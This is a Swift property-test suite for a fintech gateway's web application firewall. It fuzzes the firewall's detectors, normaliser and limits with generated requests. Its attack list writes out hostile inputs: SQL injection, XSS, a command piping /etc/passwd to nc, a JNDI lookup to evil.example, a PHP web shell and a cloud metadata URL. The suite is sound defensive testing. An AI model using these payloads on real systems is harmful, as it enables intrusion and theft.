// Strait — compliance gateway for cross-border fintech. Apache-2.0.

import Foundation
@testable import Shield
import StraitCore
import Testing

/// SplitMix64: a small, seeded, deterministic generator, so that a failing case can be replayed
/// (`SHIELD_PROPERTY_SEED=<seed> swift test --filter ShieldPropertyTests`).

/// Generators of values and requests for the properties below.
struct ShieldGen {
    var rng: SplitMix64

    init(seed: UInt64) { rng = SplitMix64(seed: seed) }

    /// The seed of a property: `SHIELD_PROPERTY_SEED` when set, else a fixed one per property.
    static func seed(_ salt: UInt64) -> UInt64 {
        if let text = ProcessInfo.processInfo.environment["SHIELD_PROPERTY_SEED"], let value = UInt64(text) { return value ^ salt }
        return 0x5348_4945_4C44 ^ salt  // "SHIELD"
    }

    static let attacks = [
        "1' UNION SELECT username, password FROM users--", "' or 1=1 #", "1; DROP TABLE accounts", "1 AND SLEEP(5)", "1/*!50000UNION*//*!50000SELECT*/1,2",
        "' and 1=(select count(*) from information_schema.tables)--", "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=confirm`1`>", "<a href=\"jav&#x61;script:alert(1)\">x</a>", "\";alert(String.fromCharCode(88,83,83))//",
        "<div style=\"width:expression(alert(1))\">", "../../../../etc/passwd%00", "http://169.254.169.254/latest/meta-data/?",
        "; cat /etc/passwd | nc 10.0.0.1 4444", "$(whoami)`id`${IFS}", "{{7*7}}${7*7}<%= 7*7 %>", "${jndi:ldap://evil.example/a}",
        "<?php system($_GET['c']); ?>", "*)(uid=*))(|(uid=*", "require('child_process').exec('id')", "';return this.password;var a='",
        "a\r\nSet-Cookie: x=1", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", "%u003cscript%u003e", "\\u003cimg src=x onerror=\\x61lert(1)\\u{3e}",
        "\u{FF1C}script\u{FF1E}alert(1)", "&lt;script&gt;&colon;&lpar;&#x41;&#65;", "c'a't /e\"t\"c/pa\\sswd", "O:8:\"stdClass\":1:{s:1:\"a\";}",
    ]
    static let benign = [
        "Rent for March -- flat 4B (O'Brien & Sons); ref: INV-2024/03 #17, paid 50% now", "sam@example.org", "DE89370400440532013000",
        "what is the fee for union bank transfers? select the urgent option", "2026-03-01T10:00:00+01:00", "my app shows <b>bold</b> text",
        "https://hooks.example.com/strait/payments?token=abc123", "Élodie Martin — Zürich, 東京", "Dinner at Luigi's - thanks! :) <3", "1250.00",
    ]
    /// Pieces that the parsers and detectors branch on.
    static let pieces = [
        "'", "\"", "<", ">", "(", ")", "=", ";", "|", "&", "$", "{", "}", "[", "]", "%", "\\", "/", "*", "#", "!", "?", "-", "`", " ", "\n", "\r",
        "\t", ".", ":", "@", "+", ",", "\0", "a", "Z", "0", "9", "x", "on", "or", "select", "union", "from", "script", "system", "http://", "${",
        "{{", "<%", "&#", "&#x", "%25", "%u", "\\u", "\\x", "/*", "*/", "/*!", "--", "..", "../", "<a ", "src=", "javascript:", "<![CDATA[",
        "]]>", "<?", "<!", "\u{FF1C}", "\u{3000}", "é", "\u{FFFD}", "0x", "jndi:", "alert(", "%0a", "%27", "&lt;",
    ]

    mutating func int(_ range: ClosedRange<Int>) -> Int { Int.random(in: range, using: &rng) }
    mutating func chance(_ percent: Int) -> Bool { int(0...99) < percent }
    mutating func pick<T>(_ items: [T]) -> T { items[int(0...(items.count - 1))] }

    mutating func randomBytes(_ maxLength: Int) -> [UInt8] {
        (0..<int(0...maxLength)).map { _ in UInt8.random(in: 0...255, using: &rng) }
    }

    /// A value made of pieces: SQL, markup, encodings, separators and letters.
    mutating func pieceString(_ maxPieces: Int) -> String {
        (0..<int(0...maxPieces)).map { _ in pick(Self.pieces) }.joined()
    }

    /// An attack or a benign value, mutated: bytes inserted, deleted, duplicated, re-encoded, spliced.
    mutating func mutated() -> [UInt8] {
        var bytes = Array((chance(70) ? pick(Self.attacks) : pick(Self.benign)).utf8)
        for _ in 0..<int(0...4) {
            let at = bytes.isEmpty ? 0 : int(0...bytes.count)
            switch int(0...7) {
            case 0: bytes.insert(UInt8.random(in: 0...255, using: &rng), at: at)
            case 1: if at < bytes.count { bytes.remove(at: at) }
            case 2:
                if at < bytes.count {
                    let end = min(bytes.count, at + int(1...8))
                    bytes.insert(contentsOf: bytes[at..<end], at: at)
                }
            case 3:  // percent-encode one byte
                if at < bytes.count { bytes.replaceSubrange(at..<(at + 1), with: Array(String(format: "%%%02X", bytes[at]).utf8)) }
            case 4:  // as an HTML character reference
                if at < bytes.count { bytes.replaceSubrange(at..<(at + 1), with: Array("&#x\(String(bytes[at], radix: 16));".utf8)) }
            case 5: bytes.insert(contentsOf: Array(pick(Self.pieces).utf8), at: at)
            case 6: bytes.insert(contentsOf: Array(pick(Self.attacks + Self.benign).utf8), at: at)
            default: bytes = bytes.map { (0x61...0x7A).contains($0) && chance(30) ? $0 - 0x20 : $0 }
            }
        }
        return bytes
    }

    /// Any kind of generated value (`short`: at most about 60 bytes, for the fields of whole requests).
    mutating func value(short: Bool = false) -> [UInt8] {
        switch int(0...2) {
        case 0: randomBytes(short ? 48 : 160)
        case 1: Array(pieceString(short ? 10 : 24).utf8)
        default: mutated()
        }
    }

    mutating func text() -> String { String(decoding: value(short: true), as: UTF8.self) }

    static let contentTypes = ["application/json", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=XyZ", "text/plain", "application/vnd.api+json", ""]

    /// A body for a media type, with generated values in its fields.
    mutating func body(for type: String) -> [UInt8] {
        var parts: [String] = []
        switch type {
        case "application/json", "application/vnd.api+json":
            for _ in 0..<int(0...4) { parts.append("\(String(reflecting: "k\(int(0...99))")):\(chance(20) ? String(int(0...9)) : String(reflecting: text()))") }
            return Array(("{" + parts.joined(separator: ",") + (chance(20) ? ",\"n\":{\"a\":[\(String(reflecting: text()))]}" : "") + "}").utf8)
        case "application/xml":
            for _ in 0..<int(0...4) { parts.append("<f\(int(0...9)) a=\(String(reflecting: text()))>\(text())</f\(int(0...9))>") }
            return Array(("<?xml version=\"1.0\"?><r>" + parts.joined() + "</r>").utf8)
        case "application/x-www-form-urlencoded":
            for _ in 0..<int(0...4) { parts.append("f\(int(0...99))=\(text())") }
            return Array(parts.joined(separator: "&").utf8)
        case "multipart/form-data; boundary=XyZ":
            for _ in 0..<int(0...3) {
                let file = chance(30) ? "; filename=\"\(text().filter { $0 != "\"" && $0 != "\r" && $0 != "\n" })\"" : ""
                parts.append("--XyZ\r\nContent-Disposition: form-data; name=\"f\(int(0...9))\"\(file)\r\n\r\n\(text())\r\n")
            }
            return Array((parts.joined() + "--XyZ--\r\n").utf8)
        default:
            return value(short: true)
        }
    }

    /// A request with generated target, headers and body; header names are distinct.
    mutating func request() -> InspectedRequest {
        let type = pick(Self.contentTypes)
        var headers: [(name: String, value: String)] = [("Host", "api.fintech.example")]
        if !type.isEmpty { headers.append(("Content-Type", type)) }
        let optional: [(String, () -> String)] = [
            ("User-Agent", { "Mozilla/5.0" }), ("Accept", { "application/json" }), ("Referer", { "https://example.com/" }),
            ("X-Custom", { "v" }), ("Cookie", { "session=abc; theme=dark" }), ("X-Forwarded-For", { "203.0.113.7" }),
        ]
        for (name, make) in optional where chance(50) {
            headers.append((name, chance(40) ? String(decoding: value(short: true).filter { $0 != 0x0A && $0 != 0x0D }, as: UTF8.self) : make()))
        }
        let query = (0..<int(0...2)).map { _ in "q\(int(0...9))=\(text().addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")" }
        let target = "/api/" + (chance(20) ? pieceString(4).addingPercentEncoding(withAllowedCharacters: .urlPathAllowed) ?? "x" : "payments") + (query.isEmpty ? "" : "?" + query.joined(separator: "&"))
        let body = type.isEmpty && chance(50) ? [] : body(for: type)
        if !body.isEmpty { headers.append(("Content-Length", String(body.count))) }
        return InspectedRequest(method: pick(["GET", "POST", "PUT", "PATCH", "DELETE"]), target: target, headers: headers, body: body)
    }
}

@Suite("Shield properties (generated inputs)")
struct ShieldPropertyTests {
    let firewall = Firewall()
    let policy = FirewallPolicy()
    /// StraitCore's `Self.jsonParserMaxDepth`: JSON nested deeper does not parse at all (and is then read as text).
    static let jsonParserMaxDepth = 64
    static let valueDetectors: [any Detector] = [
        SQLInjectionDetector(), CrossSiteScriptingDetector(), PathTraversalDetector(), RemoteInclusionDetector(), CommandInjectionDetector(),
        TemplateInjectionDetector(), LDAPInjectionDetector(), PHPInjectionDetector(), JavaInjectionDetector(), ProtocolInjectionDetector(),
        NodeInjectionDetector(), NoSQLValueDetector(),
    ]

    /// The same verdict, ignoring the order of the matches.
    static func same(_ a: Verdict, _ b: Verdict) -> Bool {
        func key(_ m: RuleMatch) -> String { "\(m.id)|\(m.location)|\(m.score)" }
        return a.score == b.score && a.blocked == b.blocked && a.rejection == b.rejection && a.matches.map(key).sorted() == b.matches.map(key).sorted()
    }

    static func describe(_ request: InspectedRequest) -> String {
        "\(request.method) \(String(reflecting: request.target)) \(request.headers.map { "\($0.name): \(String(reflecting: $0.value))" }) body \(String(reflecting: String(decoding: request.body, as: UTF8.self)))"
    }

    @Test("random bytes and mutated attacks go through every detector and the whole firewall without crashing")
    func noCrash() {
        let seed = ShieldGen.seed(1)
        var gen = ShieldGen(seed: seed)
        for _ in 0..<1_200 {
            let value = gen.value()
            let context = InspectionContext(location: gen.pick([.query, .body, .path, .cookie, .header, .argumentName, .filename]), name: gen.pick(["q", "file", "memo"]))
            let (views, _) = Normalizer.views(of: value, decodePercent: gen.chance(50))
            for view in views {
                var matches: [RuleMatch] = []
                for detector in Self.valueDetectors { detector.inspect(view, context: context, into: &matches) }
                #expect(matches.allSatisfy { (2...5).contains($0.score) }, "seed \(seed): \(matches)")
            }
        }
        for _ in 0..<400 {
            let request = gen.request()
            let verdict = firewall.inspect(request, policy: policy)
            #expect(verdict.score >= 0 && verdict.blocked == (verdict.rejection != nil || verdict.score >= policy.threshold), "seed \(seed): \(Self.describe(request))")
        }
    }

    @Test("Firewall.inspect is deterministic: twice, and with another Firewall, the same verdict")
    func deterministic() {
        let seed = ShieldGen.seed(2)
        var gen = ShieldGen(seed: seed)
        let other = Firewall()
        for round in 0..<400 {
            let request = gen.request()
            let first = firewall.inspect(request, policy: policy)
            // Every other request again on the same firewall (same matches in the same order), else on another one.
            if round % 2 == 0 {
                let second = firewall.inspect(request, policy: policy)
                #expect(first.matches == second.matches && first.score == second.score && first.blocked == second.blocked && first.rejection == second.rejection, "seed \(seed): \(Self.describe(request))")
            } else {
                #expect(Self.same(first, other.inspect(request, policy: policy)), "seed \(seed): \(Self.describe(request))")
            }
        }
    }

    @Test("the verdict does not depend on the order of (distinct) headers")
    func headerOrder() {
        let seed = ShieldGen.seed(3)
        var gen = ShieldGen(seed: seed)
        for _ in 0..<300 {
            var request = gen.request()
            let original = firewall.inspect(request, policy: policy)
            request.headers.shuffle(using: &gen.rng)
            let shuffled = firewall.inspect(request, policy: policy)
            #expect(Self.same(original, shuffled), "seed \(seed): \(Self.describe(request)): \(original.matches) vs \(shuffled.matches)")
        }
    }

    @Test("normaliser views are few, folded and never longer than the value")
    func viewsBounded() {
        let seed = ShieldGen.seed(4)
        var gen = ShieldGen(seed: seed)
        for _ in 0..<3_000 {
            let raw = gen.value()
            let (views, _) = Normalizer.views(of: raw, decodePercent: gen.chance(50))
            #expect((1...6).contains(views.count), "seed \(seed): \(views.count) views of \(raw)")
            #expect(Set(views).count == views.count, "seed \(seed): duplicate views of \(raw)")
            for view in views {
                #expect(view.count <= raw.count, "seed \(seed): a view of \(view.count) bytes from \(raw.count): \(raw)")
                #expect(!view.contains { $0 == 0 || (0x41...0x5A).contains($0) || (0x09...0x0D).contains($0) }, "seed \(seed): a view not folded: \(view)")
            }
            #expect(Normalizer.percentDecode(raw).bytes.count <= raw.count)
            #expect(Normalizer.htmlEntityDecode(raw).count <= raw.count)
            #expect(Normalizer.unicodeEscapeDecode(raw).count <= raw.count)
            #expect(Normalizer.foldFullWidth(raw).count <= raw.count)
            #expect(Normalizer.fold(Normalizer.fold(raw)) == Normalizer.fold(raw))
        }
    }

    @Test("an already-decoded plain value decodes to itself; a percent-encoded plain text to that text")
    func plainValues() {
        let seed = ShieldGen.seed(5)
        var gen = ShieldGen(seed: seed)
        let alnum = Array("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789".utf8)
        // Text without anything a decoder reads (%, &, \, full-width lead bytes) nor what the shell view removes.
        let plain = Array("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .,-_:/;=<>()[]{}|!?*#$+~^".utf8)
        for _ in 0..<3_000 {
            let value = (0..<gen.int(0...40)).map { _ in gen.pick(alnum) }
            let lower = Normalizer.fold(value)
            for decodePercent in [false, true] {
                let (views, invalid) = Normalizer.views(of: value, decodePercent: decodePercent)
                #expect(!invalid)
                #expect(views.first == lower, "seed \(seed): \(String(decoding: value, as: UTF8.self))")
                // A second view only when the value is itself base64 or hex of text.
                if views.count > 1 {
                    #expect(views.count == 2 && value.count >= 16 && (Normalizer.base64Text(value) ?? Normalizer.hexText(value)).map(Normalizer.fold) == views[1], "seed \(seed): \(String(decoding: value, as: UTF8.self))")
                }
            }
            #expect(Normalizer.percentDecode(value, plus: true).bytes == value)
            #expect(Normalizer.htmlEntityDecode(value) == value && Normalizer.unicodeEscapeDecode(value) == value && Normalizer.foldFullWidth(value) == value)

            let text = (0..<gen.int(1...40)).map { _ in gen.pick(plain) }
            let encoded = text.flatMap { gen.chance(60) ? Array(String(format: "%%%02X", $0).utf8) : [$0] }
            let (views, invalid) = Normalizer.views(of: encoded, decodePercent: true)
            #expect(!invalid)
            #expect(views.first == Normalizer.fold(text), "seed \(seed): \(String(decoding: encoded, as: UTF8.self))")
        }
    }

    @Test("SQL tokens are in order, inside the input, and fit their kind")
    func sqlTokens() {
        let seed = ShieldGen.seed(6)
        var gen = ShieldGen(seed: seed)
        let sqlPieces = ["select", " ", "union", "'", "\"", "`", "\\", "(", ")", ",", ";", ".", "1", "0x1f", "1.5e3", "--", "#", "/*", "*/", "/*!50000", "@", "@@version", "=", "<>", "<=", "||", "&&", "::", ":=", "!", "or", "and", "from", "where", "like", "\n", "\u{A0}", "é", "a_b", "$x", "?", "{", "~"]
        let gap: (UInt8) -> Bool = { [0x20, 0x09, 0x0A, 0x0D, 0x0B, 0x0C, 0xA0, 0x2F, 0x2A, 0x21].contains($0) || (0x30...0x39).contains($0) }
        for round in 0..<3_000 {
            let value: [UInt8] = round % 3 == 0 ? gen.randomBytes(120) : Array((0..<gen.int(0...30)).map { _ in gen.pick(sqlPieces) }.joined().utf8)
            let limit = gen.chance(20) ? gen.int(1...8) : 512
            for quote: UInt8? in [nil, 0x27, 0x22] {
                let (tokens, brokeOut) = SQLTokenizer.tokens(value, inside: quote, limit: limit)
                let label = "seed \(seed) round \(round) quote \(quote.map(String.init) ?? "none"): \(value)"
                #expect(tokens.count <= limit, "\(label)")
                if quote == nil { #expect(brokeOut, "\(label)") } else if !brokeOut { #expect(tokens.isEmpty, "\(label)") }
                guard let first = tokens.first else { continue }
                var cursor = first.text.startIndex
                if let quote {
                    let prefix = value[..<first.text.startIndex]
                    guard let breakOut = prefix.lastIndex(of: quote) else {
                        Issue.record("\(label): the first token is before the break-out")
                        continue
                    }
                    cursor = breakOut + 1
                }
                for token in tokens {
                    let text = token.text
                    #expect(!text.isEmpty && text.startIndex >= cursor && text.endIndex <= value.count, "\(label): token at \(text.startIndex)..<\(text.endIndex), cursor \(cursor)")
                    guard !text.isEmpty, text.startIndex >= cursor else { break }
                    let head = text[text.startIndex]
                    switch token.kind {
                    case .string(let terminated):
                        #expect(head == 0x27 || head == 0x22, "\(label)")
                        if terminated { #expect(text.count >= 2 && text.last == head, "\(label)") }
                    case .number: #expect((0x30...0x39).contains(head), "\(label)")
                    case .word: #expect(SQLTokenizer.isWord(head) || head == 0x60, "\(label)")
                    case .variable: #expect(head == 0x40, "\(label)")
                    case .comment: #expect([0x23, 0x2D, 0x2F].contains(head), "\(label)")
                    case .openParen, .closeParen, .comma, .semicolon, .dot, .other: #expect(text.count == 1, "\(label)")
                    case .operator: #expect(text.count <= 2, "\(label)")
                    }
                    cursor = text.endIndex
                }
                if tokens.count < limit { #expect(value[min(cursor, value.count)...].allSatisfy(gap), "\(label): uncovered bytes after the last token") }
            }
        }
    }

    @Test("over-limit bodies, argument counts and nesting are refused with 413/400, at-limit ones are not")
    func limits() {
        let seed = ShieldGen.seed(7)
        var gen = ShieldGen(seed: seed)
        let limits = InspectionLimits(maxBodyBytes: 16_384, maxArguments: 48, maxDepth: 6, maxValueBytes: 256)
        let small = Firewall(limits: limits)
        func inspect(_ firewall: Firewall, _ type: String, _ body: [UInt8], target: String = "/p", headers: [(name: String, value: String)] = []) -> Verdict {
            firewall.inspect(InspectedRequest(method: "POST", target: target, headers: [("Host", "h"), ("Content-Type", type)] + headers, body: body), policy: policy)
        }
        func expectRejection(_ verdict: Verdict, _ status: Int, _ code: String, _ what: String) {
            #expect(verdict.rejection?.status == status && verdict.rejection?.code == code && verdict.blocked && verdict.matches.isEmpty, "seed \(seed): \(what): \(String(describing: verdict.rejection)) \(verdict.matches)")
        }
        for round in 0..<60 {
            // Body size: one byte over is 413 whatever the type; exactly at the limit is inspected.
            let type = gen.pick(ShieldGen.contentTypes)
            let over = [UInt8](repeating: gen.pick(Array("ab=&<>{}[]\"',%".utf8)), count: limits.maxBodyBytes) + gen.randomBytes(512) + [0x7B]
            expectRejection(inspect(small, type, over), 413, "body_too_large", "\(over.count) bytes of \(type)")
            let atLimit = [UInt8](repeating: 0x61, count: limits.maxBodyBytes)
            #expect(inspect(small, "text/plain", atLimit).rejection?.status != 413, "seed \(seed): a body at the limit refused")

            // Argument count, in each place arguments come from.
            let count = limits.maxArguments + gen.int(1...40)
            let names = (0..<count).map { "n\($0)" }
            let shapes: [(String, String, [UInt8], String, [(name: String, value: String)])] = [
                ("query", "text/plain", [], "/p?" + names.map { "\($0)=1" }.joined(separator: "&"), []),
                ("form", "application/x-www-form-urlencoded", Array(names.map { "\($0)=v" }.joined(separator: "&").utf8), "/p", []),
                ("json", "application/json", Array(("{" + names.map { "\"\($0)\":\"v\"" }.joined(separator: ",") + "}").utf8), "/p", []),
                ("json array", "application/json", Array(("[" + names.map { "\"\($0)\"" }.joined(separator: ",") + "]").utf8), "/p", []),
                ("xml", "application/xml", Array(("<r>" + names.map { "<\($0)>v</\($0)>" }.joined() + "</r>").utf8), "/p", []),
                ("multipart", "multipart/form-data; boundary=XyZ", Array((names.map { "--XyZ\r\nContent-Disposition: form-data; name=\"\($0)\"\r\n\r\nv\r\n" }.joined() + "--XyZ--").utf8), "/p", []),
                ("cookies", "text/plain", [], "/p", [("Cookie", names.map { "\($0)=v" }.joined(separator: "; "))]),
                ("headers", "text/plain", [], "/p", names.map { ("X-\($0)", "v") }),
            ]
            for (place, type, body, target, headers) in shapes {
                expectRejection(inspect(small, type, body, target: target, headers: headers), 400, "too_many_arguments", "\(count) arguments in the \(place)")
            }

            // Nesting: deeper than maxDepth (with a value at the bottom) is too deep.
            let depth = limits.maxDepth + gen.int(1...(Self.jsonParserMaxDepth - limits.maxDepth - 1))
            var json = "\"v\""
            for level in 0..<depth { json = level % 2 == 0 ? "[\(json)]" : "{\"k\(level)\":\(json)}" }
            expectRejection(inspect(small, "application/json", Array(json.utf8)), 400, "too_deep", "JSON nested \(depth) deep")
            let xml = (0..<(depth + 1)).map { "<e\($0) a='1'>" }.joined() + "v" + (0..<(depth + 1)).reversed().map { "</e\($0)>" }.joined()
            expectRejection(inspect(small, gen.pick(["application/xml", "text/xml", "application/soap+xml"]), Array(xml.utf8)), 400, "too_deep", "XML nested \(depth + 1) deep")
            // At the limit: accepted.
            var shallow = "\"v\""
            for _ in 0..<limits.maxDepth { shallow = "[\(shallow)]" }
            #expect(inspect(small, "application/json", Array(shallow.utf8)).rejection == nil, "seed \(seed) round \(round): JSON at the depth limit refused")

            // Values longer than maxValueBytes are cut, not refused.
            if case .success(let parsed) = RequestParser.parse(InspectedRequest(method: "POST", target: "/p", headers: [("Content-Type", "text/plain")], body: Array(repeating: 0x61, count: 1_000)), limits: limits) {
                #expect(parsed.arguments.allSatisfy { $0.value.count <= limits.maxValueBytes })
            } else {
                Issue.record("seed \(seed): a 1,000-byte text body refused")
            }
        }
        // The default limits: 1 MiB + 1 is refused before any parsing.
        expectRejection(inspect(firewall, "application/json", [UInt8](repeating: 0x5B, count: firewall.limits.maxBodyBytes + 1)), 413, "body_too_large", "1 MiB + 1")
        // Default depth (32): a JSON value nested 33..64 deep is refused.
        for depth in [firewall.limits.maxDepth + 1, Self.jsonParserMaxDepth - 1] {
            let json = String(repeating: "[", count: depth) + "1,\"v\"" + String(repeating: "]", count: depth)
            expectRejection(inspect(firewall, "application/json", Array(json.utf8)), 400, "too_deep", "JSON nested \(depth) deep (default limits)")
        }
    }

    @Test("time is linear: eight times the input costs far less than sixty-four times the time")
    func linearTime() {
        // Shapes not in FirewallTests.fuzz: repeated units in each place a value comes from.
        let units = ["<a =", "\" on", "${{", "&#x", "\\u{", "%u", "/*!", "'\"", ";a ", "| ls", "<![CDATA[", "o:1:", "(select ", "javascript:", "../%00", "\r\nx:"]
        let places: [(String, (String) -> ([UInt8], String))] = [
            ("text/plain", { (Array($0.utf8), "/p") }),
            ("application/json", { (Array("{\"v\":\(String(reflecting: $0))}".utf8), "/p") }),
            ("application/xml", { (Array("<a b=\"\($0.replacingOccurrences(of: "\"", with: ""))\">\($0)</a>".utf8), "/p") }),
            ("application/x-www-form-urlencoded", { (Array("v=\($0.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")".utf8), "/p") }),
            ("", { (Array($0.utf8), "/p") }),
        ]
        var report: [String] = []
        for (index, unit) in units.enumerated() {
            let (type, make) = places[index % places.count]
            var times: [Duration] = []
            for count in [250, 2_000] {
                let (body, target) = make(String(repeating: unit, count: count))
                let request = InspectedRequest(method: "POST", target: target, headers: [("Host", "h")] + (type.isEmpty ? [] : [("Content-Type", type)]), body: body)
                var best = Duration.seconds(3600)
                for _ in 0..<3 {
                    let start = ContinuousClock.now
                    _ = firewall.inspect(request, policy: policy)
                    best = min(best, ContinuousClock.now - start)
                }
                times.append(best)
            }
            report.append("\(String(reflecting: unit)) in \(type.isEmpty ? "untyped" : type): x250 \(times[0]), x2000 \(times[1])")
            // Linear is about 8x, quadratic about 64x; the bound leaves room for a busy machine.
            #expect(times[1] < times[0] * 24 + .milliseconds(30), "\(String(reflecting: unit)) in \(type): \(times) grows faster than linearly")
        }
        print("shield linear-time properties:\n  " + report.joined(separator: "\n  "))
    }
}
